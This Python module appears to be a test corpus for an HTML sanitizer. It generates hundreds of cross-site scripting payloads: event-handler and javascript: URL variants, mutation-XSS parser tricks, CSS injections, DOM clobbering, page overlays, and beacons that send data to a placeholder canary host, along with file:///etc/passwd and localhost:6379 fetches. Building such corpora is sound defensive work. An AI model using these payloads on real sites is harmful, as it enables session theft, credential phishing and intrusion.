"""HTML that wants to do harm: it runs in whatever window it can reach, calls the canary, or covers the page.

Written for the classes that have hit helpdesks: event handlers on every kind of element, addresses that are scripts in
all their disguises, markup that turns into something else when it is parsed a second time, styles that load or cover,
forms, bases, refreshes, frames within frames, and names that shadow what scripts rely on.
"""

# ruff: noqa: E501 - a payload is one line, however long

HARM = "self.harmed=1;try{top.harmed=1}finally{alert(1)}"

_AT_ONCE = {
    "img": "<img src=x {}>", "svg": "<svg {}></svg>", "body": "<body {}>x</body>", "video": "<video src=x {}></video>",
    "audio": "<audio src=x {}></audio>", "input": "<input autofocus {}>", "select": "<select autofocus {}></select>",
    "textarea": "<textarea autofocus {}></textarea>", "details": "<details open {}>x</details>",
    "marquee": "<marquee loop=1 width=0 {}>x</marquee>", "iframe": "<iframe {}></iframe>", "object": "<object data=x {}></object>",
    "embed": "<embed src=x {}>", "link": "<link rel=stylesheet href=x {}>", "style": "<style {}>x{}</style>",
    "math": "<math {}><mi>x</mi></math>", "a": "<a href=x {}>x</a>", "div": "<div tabindex=0 contenteditable {}>x</div>",
    "table": "<table {}><tr><td {}>x</table>", "font": "<font {}>x</font>", "p": '<p style="width:9px" {}>x</p>',
    "button": "<button autofocus {}>x</button>", "form": "<form {}><input name=x></form>", "frameset": "<frameset {}></frameset>",
}  # fmt: skip
_EVENTS = (
    "onload", "onerror", "onfocus", "onmouseover", "onclick", "ontoggle", "onanimationstart", "onpointerenter", "onbegin",
)  # fmt: skip
_SCRIPT_ADDRESSES = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java\tscript:{}", "java\nscript:{}", "&#106;avascript:{}",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{}", "javascript&colon;{}", "java&Tab;script:{}",
    "\x01javascript:{}", "&#1;javascript:{}", "javascript&#58;{}", "vbscript:{}", "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AuaGFybWVkPTE8L3NjcmlwdD4=", "javascript://example.org/%0a{}", "feed:javascript:{}",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>", "view-source:javascript:{}", "blob:{}",
)  # fmt: skip
_HOLDERS = (
    '<a href="{}">press</a>', '<iframe src="{}"></iframe>', '<img src="{}">', '<form action="{}"><button>x</button></form>',
    '<svg><a xlink:href="{}"><text y=20>x</text></a></svg>',
)  # fmt: skip
#: markup that is one thing before it was parsed and written, and another after
_MUTATING = (
    "<scr<script>ipt>{harm}</scr</script>ipt>",
    "<svg><style><img src=x onerror='{harm}'></style></svg>",
    "<svg></p><style><a id=\"</style><img src=x onerror='{harm}'>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror='{harm}'&gt;\">",
    "<math><mtext><table><mglyph><style><math><img src=x onerror='{harm}'></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror='{harm}'>",
    "<noscript><p title=\"</noscript><img src=x onerror='{harm}'>\">",
    "<template><img src=x onerror='{harm}'></template>",
    "<xmp><p title=\"</xmp><img src=x onerror='{harm}'>\">",
    "<noembed><p title=\"</noembed><img src=x onerror='{harm}'>\">",
    "<noframes><p title=\"</noframes><img src=x onerror='{harm}'>\">",
    "<textarea><p title=\"</textarea><img src=x onerror='{harm}'>\">",
    "<title><p title=\"</title><img src=x onerror='{harm}'>\">",
    "<style><p title=\"</style><img src=x onerror='{harm}'>\">",
    "<iframe><p title=\"</iframe><img src=x onerror='{harm}'>\">",
    "<select><style></select><img src=x onerror='{harm}'></style>",
    "<svg><desc><template><img src=x onerror='{harm}'></template></desc></svg>",
    "<svg><foreignobject><img src=x onerror='{harm}'></foreignobject></svg>",
    "<svg><title><img src=x onerror='{harm}'></title></svg>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror='{harm}'></annotation-xml></math>",
    "<table><caption><svg><table><style><img src=x onerror='{harm}'></style>",
    "<!--><img src=x onerror='{harm}'>-->",
    "<!--!><img src=x onerror='{harm}'>",
    "<!-- --!><img src=x onerror='{harm}'> -->",
    "<![CDATA[<img src=x onerror='{harm}'>]]>",
    "<?xml version='1.0'?><img src=x onerror='{harm}'>",
    '<img src="`" alt="``onerror={harm}">',
    "<p title='<img src=x onerror={harm}>'>x</p>",
    "<<img src=x onerror='{harm}'>",
    "<img/src=x/onerror={harm}>",
    "<img src=x onerror\x0c=\x0c'{harm}'>",
    "<img src=x\x00 onerror='{harm}'>",
    "<img src='x' ''onerror='{harm}'>",
    "<a href='https://ok.example/\"onmouseover=\"{harm}'>x</a>",
    "<p dir='ltr\" onclick=\"{harm}'>x</p>",
    "<font color='red\" onclick=\"{harm}'>x</font>",
    "<img alt='\"><img src=x onerror={harm}>' src='https://ok.invalid/a.png'>",
    "<plaintext><img src=x onerror='{harm}'>",
    "<svg><script>{harm}</script></svg>",
    "<svg><script href='data:text/javascript,{harm}'/></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{harm}'/></svg>#x\"/></svg>",
    "<svg><animate onbegin='{harm}' attributeName=x dur=1s></svg>",
    "<svg><set attributeName=onload to='{harm}'/></svg>",
    "<svg><a><animate attributeName=href values='javascript:{harm}'/><text y=20>x</text></a></svg>",
    "<math href='javascript:{harm}'>x</math>",
    "<math><maction actiontype='statusline#' xlink:href='javascript:{harm}'>x</maction></math>",
    "<script>{harm}</script>",
    "<script src='{canary}/s.js'></script>",
    "<script type=module>{harm}</script>",
    "<script/x>{harm}</script>",
    "<SCRIPT>{harm}</SCRIPT>",
    "<script\x0c>{harm}</script>",
    "<x onclick='{harm}' tabindex=1 autofocus onfocus='{harm}'>x</x>",
    "<custom-element onpointerenter='{harm}'>x</custom-element>",
    "<p is=x-y onclick='{harm}'>x</p>",
)
#: what wants to load, to leave, to cover, or to ask for something
_REACHING = (
    "<img src='{canary}/img.png'>", "<img srcset='{canary}/set.png 1x'>", "<img src='//{host}/bare.png'>",
    "<picture><source srcset='{canary}/source.png'><img src=x></picture>", "<img lowsrc='{canary}/low.png' dynsrc='{canary}/dyn.png'>",
    "<body background='{canary}/body.png'>x", "<table background='{canary}/table.png'><tr><td background='{canary}/td.png'>x</table>",
    "<video poster='{canary}/poster.png' src='{canary}/v.mp4'></video>", "<audio src='{canary}/a.mp3' autoplay></audio>",
    "<video><track src='{canary}/t.vtt' default></video>", "<input type=image src='{canary}/input.png'>",
    "<link rel=stylesheet href='{canary}/l.css'>", "<link rel=prefetch href='{canary}/prefetch'>", "<link rel=icon href='{canary}/icon'>",
    "<link rel=preload as=image href='{canary}/preload.png'>", "<link rel=dns-prefetch href='//{host}'>", "<link rel=modulepreload href='{canary}/m.js'>",
    "<style>@import '{canary}/import.css';</style>", "<style>p{{background:url({canary}/rule.png)}}</style><p>x</p>",
    "<style>@font-face{{font-family:x;src:url({canary}/font.woff)}} p{{font-family:x}}</style><p>x</p>",
    "<p style='background:url({canary}/style.png)'>x</p>", "<p style='background:u\\rl({canary}/escaped.png)'>x</p>",
    "<p style='background-image:image-set(\"{canary}/set2.png\" 1x)'>x</p>", "<ul style='list-style:url({canary}/list.png)'><li>x</ul>",
    "<p style='content:url({canary}/content.png);cursor:url({canary}/cursor.png),auto'>x</p>", "<p style='border-image:url({canary}/bi.png)'>x</p>",
    "<p style='color:red;/*;*/background:url({canary}/comment.png)'>x</p>", "<p style=\"font-family:'x;background:url({canary}/quoted.png)'\">x</p>",
    "<p style='mask:url({canary}/mask.svg#x);filter:url({canary}/filter.svg#x)'>x</p>", "<p style='--x:url({canary}/var.png);background:var(--x)'>x</p>",
    "<p style='behavior:url({canary}/htc);-moz-binding:url({canary}/xbl)'>x</p>", "<p style='width:expression({harm})'>x</p>",
    "<iframe src='{canary}/frame'></iframe>", "<iframe srcdoc=\"<script>{harm}</script>\"></iframe>", "<iframe srcdoc=\"<img src='{canary}/srcdoc.png'>\"></iframe>",
    "<object data='{canary}/object'></object>", "<embed src='{canary}/embed'>", "<applet code=x archive='{canary}/applet'></applet>",
    "<frameset><frame src='{canary}/frameset'></frameset>", "<portal src='{canary}/portal'></portal>", "<bgsound src='{canary}/bgsound'>",
    "<meta http-equiv=refresh content='0;url={canary}/refresh'>", "<meta http-equiv=refresh content='0;url=javascript:{harm}'>",
    "<meta http-equiv=Content-Security-Policy content=\"img-src *\"><img src='{canary}/policy.png'>", "<meta http-equiv=Set-Cookie content='a=b'>",
    "<base href='{canary}/'><img src='based.png'><a href='x'>x</a>", "<base target=_top>", "<a href='//{host}/bare'>x</a>", "<a href='/settings/'>x</a>",
    "<form action='{canary}/form'><input name=password><button autofocus>Sign in</button></form>", "<button formaction='{canary}/fa'>x</button>",
    "<form id=f action='{canary}/f'></form><input form=f type=submit>", "<isindex action='{canary}/isindex'>", "<a href='x' ping='{canary}/ping'>x</a>",
    "<div style='position:fixed;inset:0;z-index:9999;background:red'>covers</div>", "<div style='position:absolute;top:-999px;height:9999px'>x</div>",
    "<div style='position:sticky;top:0'>x</div>", "<div style='transform:scale(99);margin:-999px'>x</div>", "<div class='shell toast' id='thread'>x</div>",
    "<dialog open>x</dialog>", "<div popover id=toasts>x</div>", "<style>*{{display:none!important}}</style>", "<style>@layer components{{body{{display:none}}}}</style>",
    "<img name=harm id=location src='cid:none'>", "<a id=defaultView href='x'>x</a>", "<form id=parent name=top><input name=postMessage></form>",
    "<svg><image href='{canary}/svg.png'/></svg>", "<svg><feImage href='{canary}/fe.png'/></svg>", "<svg><style>@import '{canary}/svg.css'</style></svg>",
    "<object type='text/x-scriptlet' data='{canary}/scriptlet'></object>", "<img src='file:///etc/passwd'>", "<iframe src='http://127.0.0.1:6379/'></iframe>",
    "<link rel=attachment href='file:///etc/passwd'>", "<img src='cid:a' style='background:url({canary}/cid.png)'>", "<map name=m><area shape=default href='javascript:{harm}'></map><img usemap='#m' src=x>",
    "<link rel=manifest href='{canary}/manifest'>", "<img src=x onerror=import('{canary}/imported.js')>", "<script>fetch('{canary}/fetched',{{mode:'no-cors'}})</script>",
    "<script>new WebSocket('ws://{host}/socket')</script>", "<script>navigator.sendBeacon('{canary}/beacon')</script>", "<script>top.location='{canary}/top'</script>",
    "<script>parent.postMessage({{height:1e9,leave:true}},'*')</script>", "<script>open('{canary}/popup')</script>", "<script>print()</script>",
)  # fmt: skip


def payloads(canary: str) -> dict[str, str]:
    """All of them, by a name that says what kind they are; `canary` is the address nothing may reach."""
    host = canary.partition("//")[2]
    found: dict[str, str] = {}
    for tag, markup in _AT_ONCE.items():
        for event in _EVENTS:
            found[f"{event} of {tag}"] = markup.replace("{}", f"{event}='{HARM}'", 1).replace("{}", "")
    for number, address in enumerate(_SCRIPT_ADDRESSES):
        for holder in _HOLDERS:
            found[f"address {number} in {holder[1:5]}"] = holder.replace("{}", address.replace("{}", HARM))
    for kind, written in (("mutating", _MUTATING), ("reaching", _REACHING)):
        for number, markup in enumerate(written):
            found[f"{kind} {number}"] = markup.format(harm=HARM, canary=canary, host=host)
    return found
